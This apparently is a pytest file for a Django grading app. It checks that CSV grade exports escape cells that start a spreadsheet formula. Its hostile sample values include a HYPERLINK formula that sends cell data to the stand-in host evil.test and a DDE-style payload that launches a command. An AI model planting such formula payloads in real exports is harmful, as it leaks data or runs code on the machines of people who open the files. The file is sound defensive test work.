"""Issue 10, case 9: no cell of a CSV export starts a formula."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from config.csv_safe import safe_cell
from grading.models import SchemeComponent

pytestmark = pytest.mark.django_db

HOSTILE = {
    "first_name": '=HYPERLINK("https://evil.test/?"&A1,"grades")',
    "last_name": "+cmd|' /C calc'!A0",
    "student_id": "@SUM(1+1)",
}


def _export(world) -> list[list[str]]:
    client = Client()
    client.force_login(world.users["instructor"])
    response = client.get(reverse("grading:export", args=[world.pub.slug]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_students_formula_name_is_exported_as_text(world):
    member = world.users["member"]
    for field, value in HOSTILE.items():
        setattr(member, field, value)
    member.save()
    SchemeComponent.objects.filter(scheme=world.scheme).update(name="-2+3")

    rows = _export(world)

    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    row = next(r for r in rows if r[2] == member.email)
    assert row[0] == "'@SUM(1+1)"
    assert row[1] == "'" + member.get_full_name()
    assert "'-2+3" in rows[0]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_the_shared_helper_neutralises_each_formula_prefix(prefix):
    assert safe_cell(prefix + "1") == "'" + prefix + "1"


def test_the_shared_helper_keeps_numbers_and_plain_text():
    assert safe_cell(-3) == -3
    assert safe_cell("Ada Lovelace") == "Ada Lovelace"
    assert safe_cell("") == ""
